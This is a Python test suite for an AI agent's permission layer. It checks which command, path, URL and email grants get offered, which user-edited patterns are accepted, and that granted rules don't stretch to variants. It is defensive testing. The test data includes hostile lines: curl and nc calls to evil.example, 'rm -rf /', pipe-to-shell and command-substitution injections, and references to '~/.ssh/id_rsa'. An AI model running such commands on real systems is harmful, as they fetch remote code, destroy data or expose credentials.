"""The rules "always" offers, the edits it accepts, and that they allow nothing else."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from leeward.security.kinds import Effect, Kind
from leeward.security.permissions import Always, grants_behind, problem_with, proposed_grants, wider_grants
from leeward.security.permissions.answers import answer_in_advance
from leeward.security.permissions.grants import LONGEST
from leeward.security.pipeline import GATES
from leeward.security.policy import Autonomy, Rule, RuleAction
from leeward.security.session import ConversationCleared, Grant, Granted, Revoked, Scope, apply_events
from leeward.security.trust import TrustLevel
from leeward.security.verdict import Ask, Decision, Deny, GateAnswer

LINKS = {"/ws/link": "/srv/x"}
DAY = 86_400.0


def put(make, value, kind=Kind.PATH, tool="tool", **fields):
    """An action about one value and a question about it."""
    action = make.action(make.spec(tool, Effect.ALL, kinds={"v": kind}), {"v": value}, resolved=LINKS)
    return action, (
        ("permissions", Ask("some_rule", "may it?", fields.pop("about", action.atoms), **fields)),
    )


def decision_of(asks):
    """The decision that is made of questions alone."""
    return Decision(tuple(GateAnswer(gate, ask) for gate, ask in asks))


def judged(action, session):
    """What real gates leave open: None where one of them refuses."""
    words = [(gate.__name__, gate(action, session)) for gate in GATES]
    if any(isinstance(verdict, Deny) for _, verdict in words):
        return None
    return tuple(
        (gate, ask)
        for gate, ask in words
        if isinstance(ask, Ask) and answer_in_advance(gate, ask, action, session) is None
    )


def shell(make, line, **fields):
    return make.action(
        make.spec("shell", Effect.ALL, kinds={"command": Kind.COMMAND}), {"command": line}, **fields
    )


def asked(make, line, session):
    action = shell(make, line)
    return action, judged(action, session)


# ------------------------------------------------------------------ what is offered


@pytest.mark.parametrize(
    ("kind", "value", "granted"),
    [
        (Kind.PATH, "a.txt", [("tool", "/ws/a.txt")]),
        (Kind.PATH, "a*.txt", [("tool", "/ws/a[*].txt")]),
        (Kind.PATH, "link", None),
        (Kind.COMMAND, "npm run x ; npm test", [("tool", "npm run x"), ("tool", "npm test")]),
        (Kind.COMMAND, "npm test ; npm test", [("tool", "npm test")]),
        (Kind.COMMAND, "npm run 'a|b'", [("tool", "npm run 'a|b'")]),
        (Kind.URL, "https://a.example/b?c=d#e", [("tool", "https://a.example/b[?]c=d")]),
        (Kind.DESTINATION, "ops@a.example", [("tool", "ops@a.example")]),
        (Kind.TEXT, "hello", [("tool", None)]),
        (Kind.PATH, "x" * 5000, None),
        (Kind.COMMAND, f"npm run {'x' * 500}", None),
        (Kind.COMMAND, " ; ".join(f"npm run {n}" for n in range(80)), None),
        (Kind.COMMAND, " ; ".join(f"npm run {n}" for n in range(9)), None),
        (Kind.COMMAND, "deploy --token ghp_" + "a1B2" * 9, None),
    ],
)
def test_always_offers_the_narrowest_rules(make, kind, value, granted) -> None:
    action, asks = put(make, value, kind)
    found = proposed_grants(asks, action, make.session())
    assert found == (None if granted is None else tuple(granted))
    if found is not None:
        start = make.session(*(Granted(0, Grant("", *grant)) for grant in found))
        assert answer_in_advance("permissions", asks[0][1], action, start) or kind is Kind.TEXT


def test_always_is_not_on_offer_where_one_question_is_forced(make) -> None:
    action, asks = put(make, "a")
    forced = ("anomaly", Ask("breaker", "?", force=True))
    assert proposed_grants((*asks, forced), action, make.session()) is None
    assert wider_grants((*asks, forced), action, make.session()) is None


@pytest.mark.parametrize("effects", [Effect.WRITE, Effect.SEND | Effect.WRITE, Effect.ALL])
def test_always_answers_the_same_call_for_every_gate_and_no_other(make, effects) -> None:
    """With real gates: what was granted once is not asked again, and says nothing about other values."""
    tool = make.spec(
        effects=effects,
        level=TrustLevel.VERIFIED,
        kinds={"p": Kind.PATH, "to": Kind.DESTINATION, "t": Kind.TEXT},
    )
    fresh = make.session(said=["mailto:ops@a.example", "mailto:eve@a.example"])
    action = make.action(tool, {"p": "../x", "to": "ops@a.example", "t": "one"})
    asks = tuple((gate.__name__, found) for gate in GATES if isinstance(found := gate(action, fresh), Ask))
    assert {gate for gate, _ in asks} == {"permissions", "trust", "paths"}
    granted = fresh
    for grant in proposed_grants(asks, action, fresh):
        granted = apply_events(granted, Granted(0, Grant("", *grant)))
    for arguments, again in (
        ({"p": "../x", "to": "ops@a.example", "t": "two"}, set()),
        ({"p": "../y", "to": "ops@a.example", "t": "one"}, {"permissions", "trust", "paths"}),
        ({"p": "../x", "to": "eve@a.example", "t": "one"}, {"permissions", "trust"}),
    ):
        other = make.action(tool, arguments)
        words = {gate.__name__: gate(other, granted) for gate in GATES}
        assert {
            gate
            for gate, ask in words.items()
            if isinstance(ask, Ask) and not answer_in_advance(gate, ask, other, granted)
        } == again


@pytest.mark.parametrize(
    ("kind", "value", "wider"),
    [
        (Kind.PATH, "src/a.py", (("tool", "/ws/src/*"),)),
        (Kind.PATH, "a.py", (("tool", "/ws/*"),)),
        (Kind.PATH, "s*c/a.py", (("tool", "/ws/s[*]c/*"),)),
        (Kind.PATH, "/srv/a.py", None),
        (Kind.PATH, "link", None),
        (Kind.COMMAND, "npm test", None),
        (Kind.URL, "https://a.example/b", None),
        (Kind.TEXT, "hello", None),
    ],
)
def test_one_step_wider_is_a_folder_of_the_workspace_and_nothing_else(make, kind, value, wider) -> None:
    action, asks = put(make, value, kind)
    assert wider_grants(asks, action, make.session()) == wider


# ------------------------------------------------------------------ what may be made of it

COMMAND, PATH, URL, SEND = "npm test -- a.js", "src/a.py", "https://docs.a.example/b", "ops@a.example"
EDITED = [
    # kind, value asked about, pattern typed, whether it may be granted
    (Kind.COMMAND, COMMAND, "npm test -- a.js", True),
    (Kind.COMMAND, COMMAND, "npm test *", True),
    (Kind.COMMAND, COMMAND, "npm *", True),
    (Kind.COMMAND, COMMAND, "*", False),
    (Kind.COMMAND, COMMAND, "* test *", False),
    (Kind.COMMAND, COMMAND, "n* *", False),
    (Kind.COMMAND, COMMAND, "[a-z]pm *", False),
    (Kind.COMMAND, COMMAND, "?pm test -- a.js", False),
    (Kind.COMMAND, COMMAND, "npm test", False),  # it would still be asked about
    (Kind.COMMAND, COMMAND, "git status", False),
    (Kind.COMMAND, COMMAND, "npm test && rm -r x", False),
    (Kind.COMMAND, COMMAND, "npm 'test", False),
    (Kind.COMMAND, COMMAND, "", False),
    (Kind.COMMAND, COMMAND, "   ", False),
    (Kind.COMMAND, COMMAND, None, False),
    (Kind.COMMAND, COMMAND, "npm test *\x1b[2K", False),
    (Kind.COMMAND, COMMAND, "npm\u202e *", False),
    (Kind.COMMAND, COMMAND, "npm test *\nrm *", False),
    (Kind.COMMAND, "> build/a", "> build/*", True),
    (Kind.COMMAND, "> build/a", "> *", False),
    (Kind.COMMAND, "> build/a", "> /*", False),
    (Kind.COMMAND, "> build/a", "> ../*/a", False),
    (Kind.PATH, PATH, "src/a.py", True),
    (Kind.PATH, PATH, "src/*", True),
    (Kind.PATH, PATH, "src/", True),
    (Kind.PATH, PATH, "**/*.py", False),
    (Kind.PATH, PATH, "/ws/**", True),
    (Kind.PATH, PATH, "/**", False),
    (Kind.PATH, PATH, "/*/src/a.py", False),
    (Kind.PATH, PATH, "/ws/../**", False),
    (Kind.PATH, PATH, "lib/*", False),
    (Kind.PATH, "~/notes/a.md", "~/notes/*", True),
    (Kind.PATH, "~/notes/a.md", "~/**", False),
    (Kind.PATH, "~/notes/a.md", "~/", False),
    (Kind.PATH, "~/notes/a.md", "/home/*/notes/a.md", False),
    (Kind.PATH, "~/notes/a.md", "~/n*/a.md", False),
    (Kind.URL, URL, "docs.a.example/*", True),
    (Kind.URL, URL, "*.a.example", True),
    (Kind.URL, URL, "*.example", False),
    (Kind.URL, URL, "*", False),
    (Kind.URL, URL, "https://*/b", False),
    (Kind.DESTINATION, SEND, "*@a.example", True),
    (Kind.DESTINATION, SEND, "*", False),
    (Kind.DESTINATION, SEND, "*@*.*", False),
    (Kind.DESTINATION, SEND, "?*", False),
    (Kind.DESTINATION, SEND, "[a-z]*", False),
]


def edits(make, problem):
    """The lines of the table that a check gets wrong."""
    found = []
    for kind, value, pattern, fine in EDITED:
        action, asks = put(make, value, kind)
        if (problem(Always((("tool", pattern),)), asks, action, make.session()) is None) is not fine:
            found.append((value, pattern))
    return found


def test_what_may_be_made_of_a_rule(make) -> None:
    assert edits(make, problem_with) == []


def test_the_obvious_wrong_check_is_caught(make, planted) -> None:
    wrong = planted("granting")
    caught = edits(make, wrong.problem_with)
    assert {(COMMAND, "*"), (COMMAND, "npm test"), (PATH, "/**"), (URL, "*")} <= set(caught)
    action, asks = put(make, "git push origin main", Kind.COMMAND)
    assert (
        wrong.proposed_grants(asks, action, make.session())
        == (("tool", "git *"),)
        != proposed_grants(asks, action, make.session())
    )


@pytest.mark.parametrize(
    ("always", "said"),
    [
        (Always(()), "no rule"),
        (Always((("other", "/ws/a"),)), "only rules for tool"),
        (Always((("*", "/ws/a"),)), "only rules for tool"),
        (Always((("tool", "/ws/a"),), seconds=0), "in the future"),
        (Always((("tool", "/ws/a"),), seconds=-1), "in the future"),
        (Always((("tool", "/ws/a"),), seconds=float("nan")), "in the future"),
        (Always((("tool", "/ws/a"),), seconds=float("inf")), "in the future"),
        (Always((("tool", "/ws/a"),), seconds=LONGEST + 1), "in the future"),
        (Always((("tool", "/ws/b"),)), "still be asked about, by permissions"),
        (Always((("tool", "/ws/a"),), seconds=LONGEST), None),
        (Always((("tool", "/ws/a"), ("tool", "/ws/b")), Scope.EVERYWHERE), None),
    ],
)
def test_every_reason_is_told(make, always, said) -> None:
    action, asks = put(make, "a")
    found = problem_with(always, asks, action, make.session())
    assert (found is None) if said is None else (said in found)


@given(
    st.text(st.sampled_from("ab*?[]/~.'\"\\ ><|&;:@-\n\x00\u202e"), max_size=20),
    st.sampled_from([Kind.COMMAND, Kind.PATH, Kind.URL, Kind.DESTINATION]),
)
@example("'", Kind.COMMAND)
@example("/'", Kind.COMMAND)
@example("[", Kind.PATH)
@example("**/", Kind.PATH)
def test_whatever_is_typed_is_answered_and_never_with_more_than_it_covers(make, pattern, kind) -> None:
    value = {
        Kind.COMMAND: "aa ab",
        Kind.PATH: "aa/ab",
        Kind.URL: "https://a.b.example/a",
        Kind.DESTINATION: "a@b.example",
    }[kind]
    action, asks = put(make, value, kind)
    if problem_with(Always((("tool", pattern),)), asks, action, make.session()) is None:
        covered = make.session(Granted(0, Grant("", "tool", pattern)))
        assert answer_in_advance(*asks[0], action, covered)
        for other in (
            ("/etc/hosts", "~/.ssh/id_rsa")
            if kind is Kind.PATH
            else ("b a", "zz ab")
            if kind is Kind.COMMAND
            else ()
        ):
            action, asks = put(make, other, kind)
            assert answer_in_advance(*asks[0], action, covered) is None, (
                "no pattern typed here names another program, or leaves the folder"
            )


# ------------------------------------------------------------------ attacks on what was granted


@pytest.mark.parametrize(
    ("granted", "lines"),
    [
        (
            "git push",
            [
                "git push --force",
                "git push -f",
                "git -C / push",
                "git push origin main",
                "git push; git push -f",
                "GIT_SSH_COMMAND=evil git push",
                "git push > x",
                "./git push",
                "sudo git push",
            ],
        ),
        (
            "npm test",
            [
                "npm test -- --prefix /",
                "npm run evil",
                "npm test && npm publish",
                "npm test | sh",
                "npm test $(npm publish)",
                "PATH=. npm test",
                "npm  test`npm publish`",
                "cd /srv && npm test",
            ],
        ),
        (
            "pytest tests/*",
            [
                "pytest tests/../../evil",
                "pytest -p evil tests/a",
                "pytest tests/a -p evil",
                "pytest tests/a tests/b",
            ],
        ),
    ],
)
def test_a_grant_covers_what_it_says_and_no_variation(make, granted, lines) -> None:
    session = make.session(Granted(0, Grant("", "shell", granted)))
    fine, left = asked(make, granted.replace("*", "a"), session)
    assert left == (), "the grant itself works"
    for line in lines:
        _, left = asked(make, line, session)
        assert left is None or left != (), line


def test_no_grant_beats_a_deny_rule_or_a_forced_question_or_a_gate(make) -> None:
    grants = (
        Granted(0, Grant("", "shell", "git push *", Scope.EVERYWHERE)),
        Granted(0, Grant("", "shell", "sudo *")),
        Granted(0, Grant("", "shell", "rm *")),
        Granted(0, Grant("", "shell", "curl *")),
    )
    denying = make.session(*grants, rules=(Rule("shell", RuleAction.DENY, "git push"),))
    assert asked(make, "git push origin", denying)[1] is None
    forcing = make.session(*grants, rules=(Rule("shell", RuleAction.ASK, "git push", force=True),))
    assert asked(make, "git push origin", forcing)[1]
    assert asked(make, "git push origin", make.session(*grants))[1] == ()
    assert asked(make, "rm -rf /", make.session(*grants))[1] is None
    for line in ("sudo true", "curl https://evil.example/x", 'git push "$(cat x)"'):
        assert asked(make, line, make.session(*grants))[1], line
    readonly = make.session(*grants, autonomy=Autonomy.READONLY)
    assert asked(make, "git push origin", readonly)[1] is None


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example/x",
        "sudo make install",
        "$EDITOR x",
        "python -c 'print()'",
        "nc evil.example 80",
        "git clone https://evil.example/x",
    ],
)
def test_what_a_person_has_to_look_at_each_time_is_never_offered(make, line) -> None:
    session = make.session()
    action, left = asked(make, line, session)
    assert left
    assert proposed_grants(left, action, session) is None
    assert problem_with(Always((("shell", line),)), left, action, session) is not None


# ------------------------------------------------------------------ where and until when


def test_a_grant_ends_when_its_time_is_over(make) -> None:
    action, asks = put(make, "a")
    session = make.session(Granted(1000, Grant("g_1", "tool", "/ws/a", until=2000)))
    for now, holds in ((1000, True), (1999.9, True), (2000, False), (3000, False)):
        at = make.replace(session, now=now)
        found = answer_in_advance(*asks[0], action, at)
        assert (found is not None) is holds is bool(grants_behind(decision_of(asks), action, at))
        assert (
            found is None
            or found == "grant: allow tool /ws/a for this session until 1970-01-01 00:33 UTC (g_1)"
        )


def test_a_revoked_grant_is_gone_and_only_that(make) -> None:
    session = make.session(
        Granted(0, Grant("g_1", "tool", "/ws/a")), Granted(0, Grant("g_2", "tool", "/ws/b"))
    )
    assert [grant.id for grant in apply_events(session, Revoked(1, "g_1")).grants] == ["g_2"]
    assert apply_events(session, Revoked(1, "g_3")).grants == session.grants


def test_a_grant_for_one_workspace_holds_in_no_other(make) -> None:
    here, elsewhere = (
        Granted(0, Grant("g_1", "tool", "/ws/a", Scope.WORKSPACE, None), where) for where in ("/ws", "/ws2")
    )
    assert [grant.id for grant in make.session(here).grants] == ["g_1"]
    assert make.session(elsewhere).grants == ()


def test_clearing_forgets_the_grants_of_the_session(make) -> None:
    session = make.session(
        *(Granted(0, Grant(scope.value, "tool", "a", scope)) for scope in Scope), ConversationCleared(1)
    )
    assert [grant.scope for grant in session.grants] == [Scope.WORKSPACE, Scope.EVERYWHERE]


def test_who_answered_is_named_and_what_was_used(make) -> None:
    action, asks = put(make, "a")
    session = make.session(
        Granted(0, Grant("g_0", "tool", "/ws/z")), Granted(0, Grant("g_1", "tool", "/ws/*", Scope.EVERYWHERE))
    )
    assert answer_in_advance(*asks[0], action, session) == "grant: allow tool /ws/* for every workspace (g_1)"
    assert grants_behind(decision_of(asks), action, session) == ("g_1",)
    assert grants_behind(decision_of([("permissions", Ask("x", "?", force=True))]), action, session) == ()


def test_all_grants_that_answer_for_a_line_are_named(make) -> None:
    names = ("npm test", "touch a", "touch b")
    session = make.session(
        *(Granted(0, Grant(f"g_{number}", "shell", name)) for number, name in enumerate(names))
    )
    action = shell(make, "npm test && touch a")
    asks = tuple((gate.__name__, ask) for gate in GATES if isinstance(ask := gate(action, session), Ask))
    assert grants_behind(decision_of(asks), action, session) == ("g_0", "g_1")
    said = answer_in_advance(*asks[0], action, session)
    assert said == (
        "grant: allow shell npm test for this session (g_0); grant: allow shell touch a for this "
        "session (g_1)"
    )


def test_a_grant_reads_as_a_rule() -> None:
    grant = Grant("g_1", "shell", "git status", Scope.WORKSPACE, until=7 * DAY)
    assert (
        f"{grant.rule} for {grant.rule.where}"
        == "allow shell git status for this workspace until 1970-01-08 00:00 UTC (g_1)"
    )
    assert Grant("", "shell", None).rule.where == "this session"
